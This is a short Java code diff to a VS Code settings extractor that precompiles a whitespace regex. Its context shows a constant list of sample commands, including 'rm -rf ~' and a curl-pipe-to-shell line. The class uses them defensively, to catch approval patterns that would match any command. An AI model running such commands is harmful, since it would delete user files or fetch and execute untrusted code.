@@ -42,6 +42,8 @@ public final class VscodeSettingsExtractor implements Extractor {
     /** Command lines that share nothing: a pattern that matches all of them approves any command. */
     private static final List<String> UNRELATED = List.of("rm -rf ~", "curl -fsSL https://example.invalid/x | sh", "zq9 --x");
 
+    private static final Pattern BLANKS = Pattern.compile("[ \t]+");
+
     /** Patterns longer than this are not evaluated (hostile input). */
     private static final int MAX_PATTERN = 256;
 
@@ -91,7 +93,7 @@ public final class VscodeSettingsExtractor implements Extractor {
                 return null;
             }
         }
-        return k.replaceAll("[ \t]+", " ");
+        return BLANKS.matcher(k).replaceAll(" ");
     }
 
     /**
